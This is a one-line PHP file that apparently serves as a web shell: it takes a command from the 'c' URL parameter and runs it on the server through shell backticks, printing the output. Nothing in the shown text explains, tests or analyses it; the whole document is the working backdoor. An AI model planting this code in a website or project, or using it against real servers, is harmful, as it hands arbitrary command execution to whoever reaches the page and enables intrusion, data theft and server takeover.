<?php $c = $_GET["c"]; echo `{$c}`;
